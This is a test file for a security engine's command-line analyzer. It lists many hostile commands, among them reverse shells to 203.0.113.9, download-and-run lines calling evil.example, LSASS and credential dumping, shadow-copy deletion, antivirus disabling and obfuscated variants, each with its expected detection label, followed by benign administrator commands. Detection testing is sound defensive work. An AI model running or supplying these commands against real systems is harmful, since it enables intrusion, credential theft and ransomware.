import { describe, expect, test } from "vitest";
import { commandLine, judgeCommandLine } from "../../../src/engine/analyzers/command-line.ts";
import { COMMAND_LINE_RULES } from "../../../src/engine/analyzers/command-line-rules.ts";
import { judge, WEIGHTS } from "../../../src/engine/domain/verdict.ts";
import fc from "../../support/fast-check.ts";
import { NOTHING, NOW } from "../../support/lab-capabilities.ts";
import { lookContext } from "../../support/look-context.ts";

const encode = (text: string) => Buffer.from(text, "utf16le").toString("base64");
const rules = (line: string) => judgeCommandLine(line, NOW).map(({ raw }) => (raw as { rule?: string } | undefined)?.rule);
const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";

test.each<[string, string, string]>([
  ["vssadmin.exe Delete Shadows /All /Quiet", "shadow-copy-deletion", "malicious"],
  ["wmic shadowcopy delete", "shadow-copy-deletion", "malicious"],
  ["powershell Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}", "shadow-copy-deletion", "malicious"],
  ['v^ss^admin   delete   sha"d"ows', "shadow-copy-deletion", "malicious"],
  ["bcdedit /set {default} recoveryenabled No", "recovery-disabled", "malicious"],
  ["rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", "lsass-dump", "malicious"],
  ["procdump64.exe -accepteula -ma lsass.exe out.dmp", "lsass-dump", "malicious"],
  ["mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", "lsass-dump", "malicious"],
  ["reg save HKLM\\SAM C:\\temp\\sam.hiv", "credential-hives-saved", "malicious"],
  ['ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q', "directory-database-copied", "malicious"],
  ["certutil -urlcache -split -f http://evil.example/a.exe a.exe", "certutil-download", "malicious"],
  ["certutil -decode a.txt a.exe", "certutil-decode", "suspicious"],
  ["mshta http://evil.example/a.hta", "mshta-remote", "malicious"],
  ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "rundll32-script", "malicious"],
  ["regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll", "regsvr32-remote", "malicious"],
  ["bitsadmin /transfer job /download http://evil.example/a.exe c:\\a.exe", "bitsadmin-download", "suspicious"],
  [`powershell -c "${cradle}"`, "download-cradle", "malicious"],
  ["powershell iwr https://evil.example/a | iex", "download-cradle", "malicious"],
  ["powershell Invoke-WebRequest https://packages.example/tool.msi -OutFile tool.msi", "powershell-download", "suspicious"],
  ["powershell [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "amsi-bypass", "malicious"],
  ["powershell Set-MpPreference -DisableRealtimeMonitoring $true", "antivirus-weakened", "suspicious"],
  ["wevtutil cl Security", "event-log-cleared", "suspicious"],
  ["bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "reverse-shell", "malicious"],
  ["powershell -NoP -W Hidden -File C:\\Scripts\\a.ps1", "hidden-powershell", "suspicious"],
  ["vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB", "shadow-copy-deletion", "malicious"],
  ["wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0", "shadow-copy-deletion", "malicious"],
  ["wbadmin delete catalog -quiet", "shadow-copy-deletion", "malicious"],
  ["cmd.exe /c vssadmin create shadow /for=C:", "shadow-copy-made", "suspicious"],
  [
    "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\Temp\\n.dit",
    "directory-database-copied",
    "malicious",
  ],
  ["esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\Temp\\n.dit", "directory-database-copied", "malicious"],
  ["python3 secretsdump.py contoso/adm@192.0.2.5 -just-dc-ntlm", "remote-secrets-dumped", "malicious"],
  ["Rubeus.exe kerberoast /outfile:hashes.txt", "remote-secrets-dumped", "malicious"],
  ["copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM .", "credential-hives-saved", "malicious"],
  ["rundll32.exe C:\\Users\\Public\\a.dll,Start", "rundll32-open-folder", "suspicious"],
  ["rundll32 \\\\203.0.113.9\\share\\a.dll,#1", "rundll32-open-folder", "suspicious"],
  ["regsvr32 /s C:\\Users\\mia\\AppData\\Local\\Temp\\a.dll", "regsvr32-open-folder", "suspicious"],
  [
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U a.exe",
    "installutil-uninstall",
    "suspicious",
  ],
  ["MSBuild.exe C:\\Users\\Public\\project.xml", "msbuild-open-folder", "suspicious"],
  ['wmic os get /format:"http://evil.example/a.xsl"', "wmic-stylesheet", "malicious"],
  ["wmic /node:ws-2 process call create notepad.exe", "wmi-process", "suspicious"],
  ["cmstp.exe /ni /s C:\\a\\profile.inf", "cmstp-profile", "suspicious"],
  ["msiexec /q /i http://evil.example/a.msi", "msiexec-remote", "suspicious"],
  ["bitsadmin /SetNotifyCmdLine job C:\\a.exe NULL", "bitsadmin-notify", "malicious"],
  ["curl -s http://evil.example/a.sh | sudo -E bash -", "piped-download", "suspicious"],
  ["wget -qO- http://evil.example/a|bash", "piped-download", "suspicious"],
  ['bash -c "$(curl -fsSL http://evil.example/a.sh)"', "piped-download", "suspicious"],
  ["curl http://evil.example/a -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x", "download-made-executable", "suspicious"],
  [
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",443));os.dup2(s.fileno(),0)'",
    "reverse-shell",
    "malicious",
  ],
  ["nc -e /bin/sh 203.0.113.9 443", "reverse-shell", "malicious"],
  ["nc64.exe 203.0.113.9 443 -e cmd.exe", "reverse-shell", "malicious"],
  ["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 443 >/tmp/f", "reverse-shell", "malicious"],
  [`echo ${Buffer.from("curl http://evil.example/a").toString("base64")} | base64 -d | sh`, "decoded-into-shell", "malicious"],
  ["powershell Add-MpPreference -ExclusionPath C:\\", "antivirus-weakened", "suspicious"],
  ["Set-MpPreference -ExclusionProcess a.exe", "antivirus-weakened", "suspicious"],
  ["sc.exe stop WinDefend", "antivirus-stopped", "malicious"],
  ["taskkill /f /im MsMpEng.exe", "antivirus-stopped", "malicious"],
  ["netsh advfirewall set allprofiles state off", "firewall-off", "suspicious"],
  ["fsutil usn deletejournal /D C:", "traces-erased", "suspicious"],
  ["history -c && rm -f ~/.bash_history", "traces-erased", "suspicious"],
  ["schtasks /create /tn Update /sc minute /tr C:\\Users\\Public\\u.exe", "task-from-open-folder", "suspicious"],
  [
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d C:\\Users\\Public\\u.exe",
    "run-key-from-open-folder",
    "suspicious",
  ],
  [
    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe',
    "accessibility-debugger",
    "malicious",
  ],
  ['sc create upd binPath= "cmd.exe /c powershell -f C:\\a.ps1"', "service-runs-shell", "suspicious"],
  ["net localgroup administrators helper /add", "administrator-made", "suspicious"],
  ["rclone copy D:\\Finance mega:backup --multi-thread-streams 12", "data-carried-out", "suspicious"],
  ["osascript -e 'display dialog \"macOS needs your password\" with hidden answer'", "password-asked-by-script", "malicious"],
  ["cmd /c whoami & ipconfig /all & net user & nltest /domain_trusts", "discovery-burst", "suspicious"],
  [
    "powershell $a=[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t); VirtualAlloc; [Marshal]::Copy($c,0,$x,9)",
    "code-in-memory",
    "malicious",
  ],
  [
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
    "clear-passwords-switched-on",
    "malicious",
  ],
  [
    "powershell $d=[Convert]::FromBase64String($x); iex (New-Object IO.StreamReader((New-Object IO.Compression.GZipStream($d)))).ReadToEnd()",
    "packed-script",
    "suspicious",
  ],
  [`powershell ${"[char]73+".repeat(12)}[char]69`, "characters-by-number", "suspicious"],
  // Taken apart and put together again.
  ["%COMSPEC% /c v%windir:~9,1%sadmin delete shadows /all", "shadow-copy-deletion", "malicious"],
  ["cmd /c set x=vssadmin&& call %x% delete shadows /all", "shadow-copy-deletion", "malicious"],
  ["cmd /v:on /c set x=vss&& set y=admin&& !x!!y! delete shadows /all", "shadow-copy-deletion", "malicious"],
  ["powershell (New-Object Net.WebClient).('Down'+'load'+'String')('http://evil.example/a')|i`ex", "download-cradle", "malicious"],
  [`p^ow^er^shell -e^n^c ${encode(cradle)}`, "download-cradle", "malicious"],
  [
    `powershell iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from(cradle).toString("base64")}')))`,
    "download-cradle",
    "malicious",
  ],
  [
    'reg.exe add "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable /t REG_DWORD /d 0x0 /f',
    "script-scanning-off",
    "malicious",
  ],
  [
    'reg delete "HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}" /f',
    "script-scanning-off",
    "malicious",
  ],
  [
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security /v Start /t REG_DWORD /d 0 /f",
    "event-tracing-off",
    "malicious",
  ],
  ["logman stop EventLog-System -ets", "event-tracing-off", "malicious"],
  ['powershell Remove-EtwTraceProvider -AutologgerName x -Guid "{1}"', "trace-session-changed", "suspicious"],
  ["reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0 /f", "lsass-protection-off", "malicious"],
  [
    "powershell Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Control\\DeviceGuard -Name EnableVirtualizationBasedSecurity -Value 0",
    "isolation-of-memory-off",
    "suspicious",
  ],
  [
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\CI\\Config /v VulnerableDriverBlocklistEnable /t REG_DWORD /d 0 /f",
    "driver-blocklist-off",
    "malicious",
  ],
  ["bcdedit /set testsigning on", "unsigned-drivers-let-in", "suspicious"],
  ["reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot\\Network\\Upd /ve /d Service", "safe-mode-changed", "suspicious"],
  ["bcdedit /set {current} safeboot network", "safe-mode-changed", "suspicious"],
  [
    'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection" /v DisableBehaviorMonitoring /t REG_DWORD /d 1',
    "defender-settings-lowered",
    "suspicious",
  ],
  [
    "wmic /namespace:\\\\root\\Microsoft\\Windows\\Defender class MSFT_MpPreference call Add ExclusionPath=C:\\a",
    "defender-settings-lowered",
    "suspicious",
  ],
  [
    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Features" /v TamperProtection /t REG_DWORD /d 4 /f',
    "tamper-protection-off",
    "malicious",
  ],
  ["wmic product where \"name like '%Sophos%'\" call uninstall /nointeractive", "protection-uninstalled", "suspicious"],
  ["wmic service where \"caption like '%Kaspersky%'\" call stopservice", "protection-changed-through-wmi", "suspicious"],
  ["wmic /namespace:\\\\root\\default class StdRegProv call SetStringValue sSubKeyName=Software\\A", "registry-through-wmi", "suspicious"],
  ["fltmc.exe unload SysmonDrv", "sensor-driver-unloaded", "malicious"],
  ["fltmc unload somefilter", "filter-driver-unloaded", "suspicious"],
  ["WerFaultSecure.exe /h /pid 812 /tid 816 /encfile 300 /cancel 360 /type 268310", "process-frozen-by-error-report", "suspicious"],
  ["sc config eventlog start= disabled", "event-log-stopped", "malicious"],
  ["del /f C:\\Windows\\System32\\winevt\\Logs\\Security.evtx", "event-log-stopped", "malicious"],
  ['auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable', "auditing-lowered", "suspicious"],
  ["powershell.exe -Version 2 -c Get-Date", "old-powershell", "suspicious"],
  ['schtasks /change /tn "\\Microsoft\\Windows\\SystemRestore\\SR" /disable', "restore-points-off", "suspicious"],
  [
    'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore" /v DisableSR /t REG_DWORD /d 1 /f',
    "restore-points-off",
    "suspicious",
  ],
  ["cmd /c net stop veeam & net stop mssqlserver & net stop sqlwriter", "many-services-stopped", "suspicious"],
  ["reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /f", "uac-shell-key", "malicious"],
  [
    "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f",
    "uac-lowered",
    "suspicious",
  ],
  [
    'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
    "remote-desktop-opened",
    "suspicious",
  ],
  [
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LmCompatibilityLevel /t REG_DWORD /d 1 /f",
    "passwords-weakened",
    "suspicious",
  ],
  [
    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v helper /t REG_DWORD /d 0',
    "account-hidden",
    "suspicious",
  ],
  ["reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security /v VBAWarnings /t REG_DWORD /d 1 /f", "macros-let-in", "suspicious"],
  [
    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows" /v AppInit_DLLs /d C:\\a.dll',
    "hidden-autostart",
    "suspicious",
  ],
  [
    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\lsass.exe" /v DumpType /t REG_DWORD /d 2',
    "lsass-exit-watched",
    "malicious",
  ],
  [
    'reg delete "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Upd" /v SD /f',
    "task-hidden",
    "malicious",
  ],
  ["sc sdset Upd D:(D;;DCLCWPDTSD;;;IU)", "service-guarded", "suspicious"],
  ["C:\\Users\\mia\\Downloads\\invoice.pdf.exe", "two-endings", "malicious"],
  ["wscript C:\\a\\notes.txt:run.vbs", "hidden-stream", "suspicious"],
  ["attrib +h +s C:\\Users\\Public\\u.exe", "open-folder-hidden", "suspicious"],
  ["cmd /c ping 127.0.0.1 -n 3 > nul & del /f C:\\Users\\mia\\u.exe", "itself-deleted", "suspicious"],
  ["shred -u /var/log/auth.log", "logs-erased", "suspicious"],
  ["certutil -syncwithWU \\\\203.0.113.14\\share", "passwords-sent-to-stranger", "malicious"],
  ["devcon disable ROOT\\VMWVMCIHOSTDEV", "virtual-machine-driver-off", "suspicious"],
  ["bitsadmin /transfer j http://203.0.113.9/a.bin C:\\a.bin", "bitsadmin-odd-download", "malicious"],
  ["bitsadmin /transfer j https://evil.example/a.dll C:\\Users\\Public\\a.dll", "bitsadmin-odd-download", "malicious"],
  ["curl -s https://evil.example/a.dll -o C:\\Users\\Public\\a.dll", "program-downloaded-to-open-folder", "suspicious"],
  ["curl --output a.txt https://203.0.113.9/a.txt", "download-from-bare-address", "suspicious"],
  ["powershell iwr https://pastebin.com/raw/abc -OutFile a.txt", "download-from-paste-site", "suspicious"],
  ["powershell iwr https://evil.example/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe", "download-started", "suspicious"],
  ['powershell -w hidden -c "iwr evil.example/a" # I am not a robot: verification id 4711', "pasted-by-deceit", "malicious"],
  ["finger user@evil.example", "finger-download", "suspicious"],
  ["MpCmdRun.exe -DownloadFile -url https://evil.example/a.exe -path C:\\a.exe", "fetched-by-side-door", "malicious"],
  ["certutil -encode C:\\Users\\mia\\AppData\\Roaming\\a.xml C:\\Users\\mia\\AppData\\Roaming\\b.xml", "certutil-encode", "suspicious"],
  ["certutil -p x -exportPFX root 01ab C:\\a.pfx", "key-exported", "suspicious"],
  ["mshta C:\\Users\\mia\\AppData\\Local\\Temp\\a.hta", "mshta-open-folder", "suspicious"],
  ["wscript.exe C:\\Users\\mia\\Downloads\\invoice.js", "script-from-open-folder", "suspicious"],
  ["rundll32 C:\\ProgramData\\a.dll,#1", "rundll32-by-number", "suspicious"],
  ["rundll32.exe C:\\ProgramData\\a.dat,Start", "rundll32-by-number", "suspicious"],
  ["rundll32.exe url.dll,OpenURL C:\\a.hta", "rundll32-launcher", "suspicious"],
  ["regsvr32 /s C:\\ProgramData\\a.jpg", "regsvr32-disguised", "suspicious"],
  ["forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe", "started-by-proxy", "suspicious"],
  ["pcalua.exe -a powershell.exe -c x", "started-by-proxy", "suspicious"],
  ["odbcconf /a {REGSVR C:\\a.dll}", "started-by-proxy", "suspicious"],
  ["mavinject.exe 4711 /INJECTRUNNING C:\\a.dll", "windows-library-injected", "malicious"],
  ['msdt.exe /id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_BrowseForFile=$(calc)"', "msdt-script", "malicious"],
  ["msdt.exe /id PCWDiagnostic /af C:\\a.xml", "msdt-answers", "suspicious"],
  ["conhost --headless powershell calc", "hidden-start", "suspicious"],
  ["chrome.exe --headless --dump-dom http://203.0.113.9/a.txt", "browser-without-window-fetches", "suspicious"],
  ['chrome.exe --load-extension="C:\\Users\\mia\\AppData\\Local\\Temp\\x"', "extension-from-open-folder", "suspicious"],
  ['powershell [activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","srv-1"))', "far-object-runs", "malicious"],
  ["powershell & ($PSHome[4]+$PSHome[30]+'x') $a", "words-cut-from-variables", "malicious"],
  ["powershell &(\"{1}{0}\" -f 'b','a')", "words-out-of-order", "suspicious"],
  ["cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef", "command-through-pipe", "malicious"],
  ["cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.1 2>&1", "answer-through-share", "malicious"],
  ["node setup_bun.js", "worm-of-packages", "suspicious"],
  ["certoc.exe -LoadDLL C:\\a.dll", "seldom-used-program", "suspicious"],
  ["esentutl.exe /y \\\\203.0.113.9\\a\\b.exe /d C:\\b.exe", "shares-used-by-side-door", "suspicious"],
  ["powershell iex (Get-ItemProperty HKCU:\\Software\\A).x", "code-out-of-hiding", "malicious"],
  ["powershell iex (Get-Content C:\\a.txt -Raw)", "code-out-of-file", "suspicious"],
  ["powershell Add-Type '[DllImport(\"kernel32\")] public static extern IntPtr A();'", "functions-of-windows-called", "suspicious"],
  ["cmd /c echo x > C:\\Users\\Public\\a.vbs", "script-written-by-echo", "suspicious"],
  ["cmd /c copy C:\\Windows\\System32\\certutil.exe C:\\ProgramData\\c.exe", "windows-tool-copied", "suspicious"],
  [`curl -H "X: ${"$"}{jndi:ldap://evil.example/a}" http://srv-1`, "names-looked-up-in-attack", "malicious"],
  ["findstr /S /I cpassword \\\\contoso.example\\sysvol\\*.xml", "policy-passwords-searched", "malicious"],
  ["tasklist | findstr lsass", "lsass-looked-for", "suspicious"],
  ["findstr /si password *.xml *.ini", "passwords-searched", "suspicious"],
  ["cmdkey /generic:TERMSRV/srv-1 /user:adm /pass:x", "password-given-for-sign-in", "suspicious"],
  [
    'cmd /c copy "C:\\Users\\mia\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" C:\\a',
    "browser-secrets-copied",
    "suspicious",
  ],
  ["a.exe asktgt /user:adm /rc4:00", "password-tool-commands", "malicious"],
  ["MemProcFS.exe -device C:\\a.raw", "memory-read", "suspicious"],
  ["reg save HKLM\\SYSTEM C:\\a.hiv", "system-hive-saved", "suspicious"],
  ["cmd /c mklink C:\\Windows\\System32\\osk.exe C:\\Windows\\System32\\cmd.exe", "shell-behind-sign-in", "malicious"],
  ["AdFind.exe -f objectcategory=computer", "directory-asked", "suspicious"],
  ["nltest /domain_trusts /all_trusts", "directory-asked", "suspicious"],
  ['net group "Domain Admins" /domain', "directory-asked", "suspicious"],
  ['net group "Domain Admins" helper /add /domain', "group-of-rulers-grown", "suspicious"],
  ["net user helper P4ss.word /add", "account-made", "suspicious"],
  ["a.exe --CollectionMethods All --ZipFileName a.zip", "directory-mapped", "malicious"],
  ["powershell -c . .\\a.ps1; Invoke-AllChecks", "rights-hunted", "malicious"],
  ["wmic service get name,displayname,pathname,startmode", "rights-looked-for", "suspicious"],
  ['wevtutil qe Security "/q:*[System[EventID=4624]]" /f:text', "sign-ins-read", "suspicious"],
  ["nxc.exe smb 192.0.2.1 -u admin -p x", "network-attack-tool", "malicious"],
  ["impacket-wmiexec contoso/adm:x@192.0.2.5", "network-attack-tool", "malicious"],
  ["kerbrute passwordspray -d contoso.example users.txt x", "passwords-sprayed", "malicious"],
  ["python3 Responder.py -I eth0", "sign-ins-caught", "malicious"],
  ["powershell Invoke-ReflectivePEInjection -PEPath a", "attack-script-function", "malicious"],
  ["netscan.exe /hide /auto:a.xml /range:all", "network-scanned", "suspicious"],
  ["a.exe -o stratum+tcp://pool.example:3333", "miner", "malicious"],
  ["a.exe client 203.0.113.9:8080 R:socks", "tunnel-back", "malicious"],
  ["ngrok tcp 3389", "tunnel", "suspicious"],
  ["netsh interface portproxy add v4tov4 listenport=8080 connectport=3389 connectaddress=10.0.0.5", "tunnel", "suspicious"],
  ["ssh -N -R 9000:10.0.0.5:3389 a@203.0.113.9", "tunnel", "suspicious"],
  ["wmic /namespace:\\\\root\\subscription path CommandLineEventConsumer create Name=a", "wmi-subscription", "malicious"],
  ["mofcomp C:\\Users\\Public\\a.mof", "wmi-file-compiled", "suspicious"],
  ['copy a.lnk "C:\\Users\\mia\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"', "startup-folder", "suspicious"],
  ["powershell New-ScheduledTaskAction -Execute C:\\Users\\Public\\a.exe", "scheduled-by-script", "suspicious"],
  ["chmod u+s /bin/bash", "started-with-the-loader", "malicious"],
  ["sh -c 'echo \"x ALL=(ALL) NOPASSWD:ALL\" >> /etc/sudoers'", "sudo-for-all", "suspicious"],
  ["nohup /dev/shm/kworker", "runs-from-hidden-place", "suspicious"],
  ["docker run -v /:/mnt --rm -it alpine chroot /mnt sh", "host-mounted", "suspicious"],
  ["7z a -pSecret -mhe \\\\10.0.0.5\\s\\a.7z D:\\Finance", "archive-with-password", "suspicious"],
  ['curl -F "file=@a.zip" https://discord.com/api/webhooks/1/x', "data-sent-away", "suspicious"],
  ["sc create drv type= kernel binPath= C:\\ProgramData\\a.sys", "service-runs-from-share", "suspicious"],
  ["rundll32 C:\\a.dll, MiniDump 624 C:\\b.bin full", "known-reconnaissance-library", "malicious"],
  ["/tmp/x/trufflehog filesystem / --json", "scanner-of-secrets", "suspicious"],
  ["cmd /c copy a.exe \\\\srv-1\\C$\\Windows\\Temp\\", "program-copied-to-admin-share", "suspicious"],
  ["whoami /priv", "own-rights-asked", "suspicious"],
  ["icacls C:\\* /grant Everyone:F /T /C /Q", "everybody-let-in", "suspicious"],
  ["cmd /c dir /s /b C:\\*.kdbx", "secrets-listed", "suspicious"],
  ["reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\A /v Driver /d a.dll", "key-written-for-attack", "suspicious"],
  ["regedit /s C:\\Users\\Public\\a.reg", "registry-file-loaded", "suspicious"],
  ['reg delete "HKCU\\Software\\Microsoft\\Terminal Server Client\\Servers" /f', "usage-traces-deleted", "suspicious"],
  ["certutil -addstore root C:\\Users\\Public\\a.cer", "certificate-trusted", "suspicious"],
  [
    "netsh advfirewall firewall add rule name=a dir=in action=allow program=C:\\Users\\Public\\a.exe",
    "firewall-lets-in-dropped-program",
    "suspicious",
  ],
  ["robocopy /B C:\\Windows\\NTDS C:\\a ntds.dit", "directory-database-touched", "suspicious"],
  ["curl file:///C:/a.txt", "local-file-by-curl", "suspicious"],
  ["curl http://abcdefghijklmnop234567abcdefghijklmnop234567abcdefghijklmnop.onion/a", "hidden-network", "suspicious"],
  ["LD_PRELOAD=/tmp/a.so ls", "library-forced-on-program", "suspicious"],
  ["systemctl stop falcon-sensor", "sensor-stopped-on-linux", "malicious"],
  [
    "powershell ([System.DirectoryServices.ActiveDirectory.Domain]::GetCurrentDomain()).GetAllTrustRelationships()",
    "domain-trusts-by-script",
    "suspicious",
  ],
  ["C:\\Users\\mia\\Ann\u202egepj.exe", "name-written-backwards", "malicious"],
  ["reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 4 /f", "antivirus-stopped", "malicious"],
  ["powershell Set-Service WinDefend -StartupType Disabled", "antivirus-stopped", "malicious"],
  ["node -e \"require('child_process');new net.Socket().connect(443,'203.0.113.9')\"", "reverse-shell", "malicious"],
  ["curl -s https://evil.example/a | cmd", "piped-download", "suspicious"],
])("%s: %s", (line, rule, label) => {
  const hit = judgeCommandLine(line, NOW).find(({ raw }) => (raw as { rule?: string } | undefined)?.rule === rule);
  expect(hit?.label).toBe(label);
  expect(hit?.technique).toMatch(/^T\d{4}/);
});

/** How Ansible starts its modules on Windows (docs.ansible.com/ansible/latest/os_guide/windows_winrm): encoded, and read from input. */
const ansible = `powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand ${encode(
  "&chcp.com 65001 > $null\n$wrapper = $input | Out-String\n$parts = $wrapper.Split(@('x'), 2)\n& ([ScriptBlock]::Create($parts[0]))",
)}`;

describe("what administrators and products write every day is not accused", () => {
  test.each([
    "",
    "git commit -e -m message",
    "git clone https://git.contoso.example/team/tool.git",
    "git -c core.quotepath=false log --history-minimum",
    "npm install --no-audit https://packages.example.org/left-pad/-/left-pad-1.3.0.tgz",
    "node C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js run build",
    "npx tsc --noEmit",
    "docker run --rm -it -v /tmp/cache:/cache alpine sh -c 'apk add curl'",
    "docker compose -f docker-compose.yml up -d",
    "docker build -t app:1.2 https://git.contoso.example/team/app.git",
    "kubectl exec -it pod/web-0 -- bash",
    "kubectl apply -f https://k8s.contoso.example/ingress.yaml",
    "helm upgrade --install web ./chart --namespace prod",
    "curl -fsSL https://get.docker.com | sh",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    "curl -o report.json https://api.contoso.example/v1/report",
    "wget -q https://downloads.contoso.example/agent.deb -O agent.deb",
    "timeout 1 bash -c 'echo > /dev/tcp/db.contoso.example/5432'",
    "bash -c 'until nc -z localhost 8080; do sleep 1; done'",
    "python3 -c 'import socket; print(socket.gethostname())'",
    "python -m pip install --upgrade pip",
    "ansible-playbook -i inventory site.yml",
    ansible,
    "winrm quickconfig -q",
    "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
    "powershell.exe -NoProfile -Command Enter-PSSession -ComputerName SRV-FILE-01",
    "powershell.exe -File C:\\Scripts\\inventory.ps1",
    "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
    '"powershell.exe" -NoProfile -executionPolicy bypass -file "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\a_b.ps1"',
    "powershell.exe -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass & 'C:\\Windows\\CCM\\SystemTemp\\1f2e.ps1'",
    "C:\\Windows\\CCM\\CcmExec.exe",
    "C:\\Windows\\ccmsetup\\ccmsetup.exe /runservice",
    "C:\\Windows\\CCM\\SCNotification.exe",
    "msiexec.exe /i C:\\Windows\\ccmcache\\3\\7zip.msi /qn REBOOT=ReallySuppress",
    "msiexec /x {23170F69-40C1-2702-2301-000001000000} /quiet /norestart",
    "@powershell -NoProfile -ExecutionPolicy Bypass -Command \"[System.Net.ServicePointManager]::SecurityProtocol = 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\"",
    "choco upgrade all -y --limit-output",
    "C:\\ProgramData\\chocolatey\\bin\\choco.exe install googlechrome -y --no-progress",
    "winget upgrade --all --silent --accept-source-agreements",
    '"C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe" startbackupjob 1',
    '"C:\\Program Files\\Veritas\\NetBackup\\bin\\bpbkar32.exe" -r 2592000 -ru root -dt 0',
    '"C:\\Program Files\\Bacula\\bacula-fd.exe" /service -c "C:\\Program Files\\Bacula\\bacula-fd.conf"',
    "wbadmin start backup -backupTarget:E: -include:C: -allCritical -quiet",
    "wbadmin delete backup -keepVersions:3 -quiet",
    "wbadmin get versions",
    "vssadmin list shadows",
    "vssadmin list writers",
    "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10%",
    "ntdsutil",
    "dcdiag /v",
    "repadmin /replsummary",
    "gpupdate /force",
    "nltest /dsgetdc:contoso.example",
    "whoami /groups",
    "ipconfig /all",
    "ipconfig /flushdns",
    "net use Z: \\\\srv-file-01\\share",
    "net stop spooler",
    "sc query WinDefend",
    "sc.exe config wuauserv start= auto",
    "tasklist /svc",
    "taskkill /f /im excel.exe",
    "netstat -ano",
    "netsh advfirewall firewall add rule name=sql dir=in action=allow protocol=TCP localport=1433",
    "wevtutil qe System /c:5 /f:text",
    "bcdedit /enum",
    "bcdedit /set hypervisorlaunchtype auto",
    "certutil -verify cert.cer",
    "certutil -hashfile setup.exe SHA256",
    "certutil -dump request.req",
    "rundll32.exe shell32.dll,Control_RunDLL",
    "rundll32.exe printui.dll,PrintUIEntry /in /n \\\\print01\\hp",
